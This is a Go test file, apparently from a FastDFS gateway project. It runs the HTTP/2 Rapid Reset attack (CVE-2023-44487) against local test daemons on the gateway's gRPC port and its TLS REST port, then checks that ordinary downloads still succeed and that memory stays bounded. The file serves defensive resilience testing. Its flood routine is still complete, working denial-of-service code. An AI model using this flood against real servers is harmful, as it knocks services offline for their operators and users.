package faults

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/protobuf/proto"

	"github.com/fdfsgo/fdfs/apiclient"
	fastdfsv1 "github.com/fdfsgo/fdfs/gen/fastdfs/v1"
	"github.com/fdfsgo/fdfs/internal/testwait"
)

// The rapid reset test's daemons: tracker .183, storage .184, gateway .185.
const (
	rrTrackerIP = "127.0.0.183"
	rrStorageIP = "127.0.0.184"
	rrGatewayIP = "127.0.0.185"
	// The TLS gateway of the REST attack, on the same cluster.
	rrTLSGatewayIP = "127.0.0.188"

	rrConns   = 4     // abusive connections, at once
	rrStreams = 20000 // streams opened and reset on each
)

// resetResult is what one abusive connection saw.
type resetResult struct {
	sent     int    // HEADERS + DATA + RST_STREAM sent
	answered int    // streams the server sent HEADERS for (a handler ran)
	goAway   string // the server's GOAWAY, "" if none
	closed   bool   // the server closed the connection before we did
	writeErr error
	took     time.Duration // until the server acknowledged a PING sent after the last reset
}

// rrLastPing is the data of the PING sent after the last reset.
var rrLastPing = [8]byte{'l', 'a', 's', 't', 'p', 'i', 'n', 'g'}

// rrTarget is what an abusive connection sends on each stream.
type rrTarget struct {
	dial   func() (net.Conn, error)
	fields [][2]string // the request's header fields
	data   []byte      // its body (nil: none, END_STREAM on HEADERS)
}

// grpcTarget is a DownloadFile call of fileID with a valid key on g.
func grpcTarget(g *gateway, fileID string) rrTarget {
	msg, _ := proto.Marshal(&fastdfsv1.DownloadFileRequest{FileId: fileID})
	data := binary.BigEndian.AppendUint32([]byte{0}, uint32(len(msg)))
	return rrTarget{
		dial: func() (net.Conn, error) { return net.DialTimeout("tcp", g.grpcAddr, 5*time.Second) },
		fields: [][2]string{
			{":method", "POST"}, {":scheme", "http"}, {":path", "/fastdfs.v1.FileService/DownloadFile"},
			{":authority", g.grpcAddr}, {"content-type", "application/grpc"}, {"te", "trailers"},
			{"authorization", "Bearer " + roKey},
		},
		data: append(data, msg...),
	}
}

// restH2Target is a GET of fileID's download route with a valid key on g's
// REST port, over TLS (h2 by ALPN).
func restH2Target(g *gateway, fileID string) rrTarget {
	return rrTarget{
		dial: func() (net.Conn, error) {
			d := &tls.Dialer{NetDialer: &net.Dialer{Timeout: 5 * time.Second}, Config: g.tls}
			return d.Dial("tcp", g.httpAddr)
		},
		fields: [][2]string{
			{":method", "GET"}, {":scheme", "https"}, {":path", "/v1/files/" + fileID + ":download"},
			{":authority", g.httpAddr}, {"authorization", "Bearer " + roKey},
		},
	}
}

// abuser is one abusive HTTP/2 connection. Its reader answers SETTINGS
// and PINGs, so writes share mu.
type abuser struct {
	c         net.Conn
	bw        *bufio.Writer
	fr        *http2.Framer
	mu        sync.Mutex
	res       resetResult
	done      chan struct{} // closed when the reader ends
	pong      chan struct{} // closed when the last PING is acknowledged
	hangingUp atomic.Bool
}

// rapidReset opens streams on one HTTP/2 connection and resets each at
// once (CVE-2023-44487): HEADERS, the body if any, RST_STREAM(CANCEL),
// n times; then a PING, whose ack means the server read every reset (it
// handles frames in order).
func rapidReset(target rrTarget, n int) resetResult {
	c, err := target.dial()
	if err != nil {
		return resetResult{writeErr: err}
	}
	defer c.Close()
	a := &abuser{c: c, bw: bufio.NewWriterSize(c, 64<<10), done: make(chan struct{}), pong: make(chan struct{})}
	a.fr = http2.NewFramer(a.bw, c)
	a.fr.SetMaxReadFrameSize(1 << 20)
	go a.read()
	start := time.Now()
	a.flood(target, n)
	a.mu.Lock()
	a.fr.WritePing(false, rrLastPing)
	a.bw.Flush()
	a.mu.Unlock()
	select {
	case <-a.pong:
	case <-a.done:
	case <-time.After(waitLimit):
	}
	took := time.Since(start)
	a.hangingUp.Store(true)
	c.Close()
	<-a.done
	a.res.took = took
	return a.res
}

// read handles the server's frames until the connection ends.
func (a *abuser) read() {
	defer close(a.done)
	for {
		f, err := a.fr.ReadFrame()
		if err != nil {
			a.res.closed = !a.hangingUp.Load()
			return
		}
		a.mu.Lock()
		switch f := f.(type) {
		case *http2.SettingsFrame:
			if !f.IsAck() {
				a.fr.WriteSettingsAck()
				a.bw.Flush()
			}
		case *http2.PingFrame:
			if !f.IsAck() {
				a.fr.WritePing(true, f.Data)
				a.bw.Flush()
			} else if f.Data == rrLastPing {
				close(a.pong)
			}
		case *http2.HeadersFrame:
			a.res.answered++
		case *http2.GoAwayFrame:
			a.res.goAway = fmt.Sprintf("%v %q after stream %d", f.ErrCode, f.DebugData(), f.LastStreamID)
		}
		a.mu.Unlock()
	}
}

// flood writes the preface and n streams opened and reset at once.
func (a *abuser) flood(target rrTarget, n int) {
	var hbuf bytes.Buffer
	enc := hpack.NewEncoder(&hbuf)
	for _, kv := range target.fields {
		enc.WriteField(hpack.HeaderField{Name: kv[0], Value: kv[1]})
	}
	a.mu.Lock()
	io.WriteString(a.bw, http2.ClientPreface)
	a.fr.WriteSettings()
	a.mu.Unlock()
	for i := range n {
		id := uint32(2*i + 1)
		a.mu.Lock()
		err := a.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: hbuf.Bytes(), EndHeaders: true, EndStream: target.data == nil})
		if err == nil && target.data != nil {
			err = a.fr.WriteData(id, true, target.data)
		}
		if err == nil {
			err = a.fr.WriteRSTStream(id, http2.ErrCodeCancel)
		}
		if err == nil && i%64 == 63 {
			err = a.bw.Flush()
		}
		a.mu.Unlock()
		if err != nil {
			a.res.writeErr = err
			return
		}
		a.res.sent++
	}
}

// latencies are one phase's well-behaved calls.
type latencies struct {
	mu     sync.Mutex
	ok     []time.Duration
	failed int
	last   string
}

// p99 is the 99th percentile of the successful calls' latencies.
func (l *latencies) p99() time.Duration {
	l.mu.Lock()
	defer l.mu.Unlock()
	if len(l.ok) == 0 {
		return 0
	}
	s := slices.Clone(l.ok)
	slices.Sort(s)
	return s[len(s)*99/100].Round(10 * time.Microsecond)
}

func (l *latencies) String() string {
	l.mu.Lock()
	ok, failed := len(l.ok), l.failed
	l.mu.Unlock()
	return fmt.Sprintf("ok %d, failed %d, p99 %v", ok, failed, l.p99())
}

// TestRapidReset runs the HTTP/2 rapid reset attack (4 connections at
// once, 20,000 streams each opened and reset at once) against the
// gateway's gRPC port, then against its REST port over TLS (the only way
// it serves HTTP/2: no h2c, which is checked), while a well-behaved client
// downloads a 10 KB file in a loop through the same port. Asserted: the
// gateway lives, the well-behaved client is served during and after the
// attack, VmRSS stays bounded. Reported: what the attackers got through,
// GOAWAYs, the p99 of the well-behaved client, CPU, VmRSS before, during
// and after.
func TestRapidReset(t *testing.T) {
	needBinary(t)
	c := startCluster(t, rrTrackerIP, rrStorageIP)
	g := startGateway(t, c.tracker.addr, rrGatewayIP)
	want := content(1, 10<<10)
	ctx := withKey(context.Background(), rwKey)
	up, err := apiclient.Upload(ctx, g.files, &fastdfsv1.UploadSpec{Ext: "bin", Size: int64(len(want))}, bytes.NewReader(want))
	if err != nil {
		t.Fatal(err)
	}
	t.Run("gRPC", func(t *testing.T) {
		attackWhileServing(t, c, g, grpcTarget(g, up.FileId), func() error {
			var buf bytes.Buffer
			cctx, cancel := context.WithTimeout(ctx, opTimeout)
			defer cancel()
			_, err := apiclient.Download(cctx, g.files, &fastdfsv1.DownloadFileRequest{FileId: up.FileId}, &buf)
			if err == nil && !bytes.Equal(buf.Bytes(), want) {
				err = fmt.Errorf("%d bytes that differ", buf.Len())
			}
			return err
		})
	})
	t.Run("REST h2c", func(t *testing.T) { noH2C(t, g.httpAddr) })
	t.Run("REST over TLS", func(t *testing.T) {
		tg := startGatewayTLS(t, c.tracker.addr, rrTLSGatewayIP, true)
		attackWhileServing(t, c, tg, restH2Target(tg, up.FileId), func() error {
			cctx, cancel := context.WithTimeout(context.Background(), opTimeout)
			defer cancel()
			req, _ := http.NewRequestWithContext(cctx, "GET", tg.url("/v1/files/"+up.FileId+":download"), nil)
			req.Header.Set("Authorization", "Bearer "+roKey)
			resp, err := tg.http.Do(req)
			if err != nil {
				return err
			}
			defer resp.Body.Close()
			b, err := io.ReadAll(resp.Body)
			if err == nil && (resp.StatusCode != 200 || !bytes.Equal(b, want)) {
				err = fmt.Errorf("%s, %d bytes", resp.Status, len(b))
			}
			return err
		})
	})
}

// phased runs a well-behaved client's calls in a loop, counting them by
// phase.
type phased struct {
	phases map[string]*latencies
	cur    atomic.Pointer[latencies]
	stop   chan struct{}
	wg     sync.WaitGroup
}

// runPhased starts op's loop in phase "before".
func runPhased(op func() error) *phased {
	p := &phased{phases: map[string]*latencies{"before": {}, "during": {}, "after": {}}, stop: make(chan struct{})}
	p.cur.Store(p.phases["before"])
	p.wg.Go(func() {
		for {
			select {
			case <-p.stop:
				return
			default:
			}
			l := p.cur.Load()
			start := time.Now()
			err := op()
			l.mu.Lock()
			if err != nil {
				l.failed++
				l.last = err.Error()
			} else {
				l.ok = append(l.ok, time.Since(start))
			}
			l.mu.Unlock()
			if err != nil {
				time.Sleep(20 * time.Millisecond)
			}
		}
	})
	return p
}

// enter makes the calls begun from now on count in phase name.
func (p *phased) enter(name string) { p.cur.Store(p.phases[name]) }

// waitOK waits until phase name counts n successful calls.
func (p *phased) waitOK(t *testing.T, name string, n int) {
	t.Helper()
	l := p.phases[name]
	testwait.Until(t, waitLimit, fmt.Sprintf("%d calls %s the attack", n, name), func() bool {
		l.mu.Lock()
		defer l.mu.Unlock()
		return len(l.ok) >= n
	})
}

// close ends the loop (once).
func (p *phased) close() {
	select {
	case <-p.stop:
	default:
		close(p.stop)
	}
	p.wg.Wait()
}

// attackWhileServing runs op in a loop before, during and after the
// attack on target and reports (and checks) what it saw: a call begun
// during the attack must succeed, VmRSS must stay bounded.
func attackWhileServing(t *testing.T, c *cluster, g *gateway, target rrTarget, op func() error) {
	wb := runPhased(op)
	defer wb.close()
	wb.waitOK(t, "before", 200)
	rss := map[string]int{"before": rssKB(t, g.proc)}

	wb.enter("during")
	procs := []*proc{g.proc, c.storages[0], c.tracker}
	cpuBefore := make([]time.Duration, len(procs))
	for i, p := range procs {
		cpuBefore[i] = cpuTime(t, p)
	}
	results, took, peak := attack(g, target)
	rss["during (peak)"] = peak
	g.alive(t)
	for i, p := range procs {
		t.Logf("%s CPU during the attack: %v", p.kind, (cpuTime(t, p) - cpuBefore[i]).Round(time.Millisecond))
	}

	// A call that began during the attack and ended after it was served
	// under attack too: wait for one, lest a fast attack leave none.
	wb.waitOK(t, "during", 1)
	wb.enter("after")
	wb.waitOK(t, "after", 200)
	rss["after"] = rssKB(t, g.proc)
	wb.close()

	sent := 0
	for i, r := range results {
		sent += r.sent
		t.Logf("abusive connection %d: %d streams opened and reset in %v, %d answered with HEADERS, closed by the server %v, GOAWAY %q, write error %v",
			i, r.sent, r.took.Round(time.Millisecond), r.answered, r.closed, r.goAway, r.writeErr)
	}
	t.Logf("attack: %d streams in %v", sent, took.Round(time.Millisecond))
	for _, name := range []string{"before", "during", "after"} {
		t.Logf("well-behaved %s: %v (last error %q)", name, wb.phases[name], wb.phases[name].last)
	}
	t.Logf("gateway VmRSS kB: %v", rss)
	if peak > 10*rss["before"]+200<<10 {
		t.Errorf("gateway VmRSS %d kB during the attack, %d kB before", peak, rss["before"])
	}
}

// attack runs rrConns abusive connections at once against target and
// samples the gateway's VmRSS every 50 ms meanwhile: what each connection
// saw, how long the attack took, the peak VmRSS in kB.
func attack(g *gateway, target rrTarget) ([]resetResult, time.Duration, int) {
	peak := 0
	attackDone, sampled := make(chan struct{}), make(chan struct{})
	go func() {
		defer close(sampled)
		for {
			select {
			case <-attackDone:
				return
			case <-time.After(50 * time.Millisecond):
				peak = max(peak, rssNow(g.proc))
			}
		}
	}()
	results := make([]resetResult, rrConns)
	var wg sync.WaitGroup
	start := time.Now()
	for i := range rrConns {
		wg.Go(func() { results[i] = rapidReset(target, rrStreams) })
	}
	wg.Wait()
	took := time.Since(start)
	close(attackDone)
	<-sampled
	return results, took, peak
}

// cpuTime is the user + system CPU time a process used so far.
func cpuTime(t *testing.T, p *proc) time.Duration {
	t.Helper()
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", p.cmd.Process.Pid))
	if err != nil {
		t.Fatal(err)
	}
	// Fields after the command name (which may hold spaces), from the
	// third: utime and stime are the 14th and 15th, in clock ticks of
	// 10 ms (USER_HZ is 100 on Linux).
	f := strings.Fields(string(b[bytes.LastIndexByte(b, ')')+2:]))
	ut, _ := strconv.ParseInt(f[11], 10, 64)
	st, _ := strconv.ParseInt(f[12], 10, 64)
	return time.Duration(ut+st) * 10 * time.Millisecond
}

// noH2C checks that the REST port does not speak HTTP/2 without TLS: an
// h2c prior-knowledge preface gets an HTTP/1 error or a closed connection.
func noH2C(t *testing.T, addr string) {
	t.Helper()
	c, err := net.DialTimeout("tcp", addr, 5*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(opTimeout))
	io.WriteString(c, http2.ClientPreface)
	fr := http2.NewFramer(c, c)
	fr.WriteSettings()
	reply, _ := io.ReadAll(io.LimitReader(c, 4096))
	if len(reply) > 0 && !bytes.HasPrefix(reply, []byte("HTTP/1.")) {
		t.Errorf("REST port answered an h2c preface with %q", reply[:min(len(reply), 64)])
	}
	t.Logf("REST port, h2c preface: %q", bytes.SplitN(reply, []byte("\r\n"), 2)[0])
}
